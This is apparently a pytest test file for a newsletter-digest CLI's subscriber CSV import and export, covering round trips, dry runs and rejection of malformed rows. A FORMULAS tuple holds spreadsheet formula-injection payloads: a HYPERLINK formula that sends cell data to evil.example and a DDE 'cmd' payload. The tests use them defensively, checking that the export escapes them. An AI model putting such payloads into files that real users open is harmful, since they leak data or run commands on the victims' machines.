"""`digest subscribers import/export`: all-or-nothing imports, line-numbered errors, round trip."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import CliResult

HEADER = (
    "email,topics,categories,authors,exclude,timezone,send_at,status,frequency,weekday,feed_only\n"
)


@pytest.fixture
def cfg(config_file: Path, run_cli: Callable[..., CliResult]) -> tuple[str, str]:
    args = ("--config", str(config_file))
    assert run_cli(*args, "db", "upgrade").code == 0
    return args


def _emails(run_cli: Callable[..., CliResult], cfg: tuple[str, str]) -> list[str]:
    return [
        s["email"] for s in json.loads(run_cli(*cfg, "subscribers", "list", "--format", "json").out)
    ]


def test_import_then_export_round_trips(
    tmp_path: Path, run_cli: Callable[..., CliResult], cfg: tuple[str, str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        HEADER + "ada@example.org,LLM agents;tool use,cs.AI;cs.CL,Yann LeCun,survey,Europe/Berlin,"
        "07:30,active,daily,,no\n"
        "bob@example.org,gaussian splatting,,,,America/New_York,06:00,paused,weekly,fri,yes\n"
    )
    result = run_cli(*cfg, "subscribers", "import", str(source))
    assert result.code == 0, result
    out = tmp_path / "out.csv"
    assert run_cli(*cfg, "subscribers", "export", "--output", str(out)).code == 0
    assert out.read_text() == (
        '"email","topics","categories","authors","exclude","timezone","send_at","status",'
        '"frequency","weekday","feed_only"\n'
        '"ada@example.org","LLM agents;tool use","cs.AI;cs.CL","Yann LeCun","survey",'
        '"Europe/Berlin","07:30","active","daily","","no"\n'
        '"bob@example.org","gaussian splatting","","","","America/New_York","06:00","paused",'
        '"weekly","fri","yes"\n'
    )
    again = run_cli(*cfg, "subscribers", "import", str(out))
    assert again.code == 0
    assert "unchanged" in again.out


def test_bad_rows_are_reported_by_line_and_nothing_is_imported(
    tmp_path: Path, run_cli: Callable[..., CliResult], cfg: tuple[str, str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        HEADER
        + "good@example.org,agents,,,,UTC,07:00,\n"
        + "not-an-address,agents,,,,UTC,07:00,\n"
        + "tz@example.org,agents,,,,Mars/Base,07:00,\n"
        + "time@example.org,agents,,,,UTC,7pm,\n"
        + "GOOD@example.org,agents,,,,UTC,07:00,\n"
    )
    result = run_cli(*cfg, "subscribers", "import", str(source))
    assert result.code == 2
    assert "line 3" in result.err
    assert "line 4" in result.err
    assert "line 5" in result.err
    assert "line 6" in result.err
    assert "already appears on line 2" in result.err
    assert "nothing was imported" in result.err
    assert "Traceback" not in result.err
    assert _emails(run_cli, cfg) == []


def test_dry_run_writes_nothing(
    tmp_path: Path, run_cli: Callable[..., CliResult], cfg: tuple[str, str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(HEADER + "ada@example.org,agents,,,,UTC,07:00,\n")
    result = run_cli(*cfg, "subscribers", "import", "--dry-run", str(source))
    assert result.code == 0
    assert "ada@example.org" in result.out
    assert _emails(run_cli, cfg) == []


def test_bad_header_and_missing_file(
    tmp_path: Path, run_cli: Callable[..., CliResult], cfg: tuple[str, str]
) -> None:
    source = tmp_path / "in.csv"
    source.write_text("mail,interests\nada@example.org,agents\n")
    result = run_cli(*cfg, "subscribers", "import", str(source))
    assert result.code == 2
    assert "header" in result.err
    missing = run_cli(*cfg, "subscribers", "import", str(tmp_path / "nope.csv"))
    assert missing.code == 2


# What an attacker types into the public form, aimed at whoever opens the export in a
# spreadsheet, and values that only survive the trip when the format escapes them.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "''",
)


def _profile(run_cli: Callable[..., CliResult], cfg: tuple[str, str]) -> list[dict[str, object]]:
    result = run_cli(*cfg, "subscribers", "list", "--format", "json")
    assert result.code == 0, result
    return [
        {k: v for k, v in s.items() if k not in ("created_at", "confirmed_at")}
        for s in json.loads(result.out)
    ]


def _second_database(tmp_path: Path, run_cli: Callable[..., CliResult]) -> tuple[str, str]:
    path = tmp_path / "restore.toml"
    path.write_text(
        f'[database]\nurl = "sqlite:///{tmp_path / "restore.sqlite3"}"\n'
        '[web]\nsecret_key = "test-secret-key"\n'
    )
    args = ("--config", str(path))
    assert run_cli(*args, "db", "upgrade").code == 0
    return args


def test_export_neutralises_formulas_and_import_restores_them(
    tmp_path: Path, run_cli: Callable[..., CliResult], cfg: tuple[str, str]
) -> None:
    topics = [arg for formula in FORMULAS for arg in ("--topic", formula)]
    added = run_cli(
        *cfg,
        *("subscribers", "add", *topics, "--confirmed"),
        *("--author", "@handle", "--exclude", "=1;2", "--exclude", "back\\slash;"),
        *("--", "-minus@example.org"),
    )
    assert added.code == 0, added
    out = tmp_path / "out.csv"
    assert run_cli(*cfg, "subscribers", "export", "--output", str(out)).code == 0
    with out.open(newline="") as handle:
        header, row = list(csv.reader(handle))
    cells = dict(zip(header, row, strict=True))
    for cell in cells.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cells["email"] == "'-minus@example.org"
    assert cells["topics"].startswith("'=HYPERLINK(")
    assert cells["authors"] == "'@handle"
    assert cells["exclude"] == "'=1\\;2;back\\\\slash\\;"

    restore = _second_database(tmp_path, run_cli)
    imported = run_cli(*restore, "subscribers", "import", str(out))
    assert imported.code == 0, imported
    (original,) = _profile(run_cli, cfg)
    assert original["topics"] == list(FORMULAS)
    assert original["exclude"] == ["=1;2", "back\\slash;"]
    assert _profile(run_cli, restore) == [original]
    again = run_cli(*cfg, "subscribers", "import", str(out))
    assert again.code == 0
    assert "unchanged" in again.out


def test_a_topic_holding_separators_and_quotes_round_trips(
    tmp_path: Path, run_cli: Callable[..., CliResult], cfg: tuple[str, str]
) -> None:
    topics = [f'topic {i}; with, separators "and quotes"' for i in range(20)]
    args = [arg for topic in topics for arg in ("--topic", topic)]
    assert run_cli(*cfg, "subscribers", "add", "ada@example.org", *args, "--confirmed").code == 0
    out = tmp_path / "out.csv"
    assert run_cli(*cfg, "subscribers", "export", "--output", str(out)).code == 0
    restore = _second_database(tmp_path, run_cli)
    result = run_cli(*restore, "subscribers", "import", str(out))
    assert result.code == 0, result
    (restored,) = _profile(run_cli, restore)
    assert restored["topics"] == topics
    assert _profile(run_cli, restore) == _profile(run_cli, cfg)


@pytest.mark.parametrize(
    ("body", "line", "words"),
    [
        (
            'ada@example.org,agents\nbob@example.org,"never closed\ncat@example.org,x\n',
            3,
            "never closed",
        ),
        ('ada@example.org,agents\nbob@example.org,"quoted" then more\n', 3, "goes on after"),
        ("ada@example.org,agents\nbob@example.org," + "x" * 1_000_000 + "\n", 3, "longer than"),
        ("ada@example.org,agents,,,,UTC,07:00,active,daily,,no,surplus\n", 2, "more cells"),
    ],
    ids=["unterminated-quote", "text-after-quote", "1MB-cell", "extra-cell"],
)
def test_malformed_csv_is_refused_with_its_line_and_nothing_is_imported(
    tmp_path: Path,
    run_cli: Callable[..., CliResult],
    cfg: tuple[str, str],
    body: str,
    line: int,
    words: str,
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(HEADER + body)
    result = run_cli(*cfg, "subscribers", "import", str(source))
    assert result.code == 2, result
    assert result.err.startswith(f"Error: in.csv: line {line}: "), result.err
    assert words in result.err
    assert "nothing was imported" in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert _emails(run_cli, cfg) == []


def test_export_to_a_missing_directory_is_one_line(
    tmp_path: Path, run_cli: Callable[..., CliResult], cfg: tuple[str, str]
) -> None:
    assert run_cli(*cfg, "subscribers", "add", "ada@example.org", "--topic", "x").code == 0
    for target in (tmp_path / "missing" / "x.csv", tmp_path):
        result = run_cli(*cfg, "subscribers", "export", "--output", str(target))
        assert result.code == 2, result
        assert len(result.err.strip().splitlines()) == 1
        assert "Traceback" not in result.err
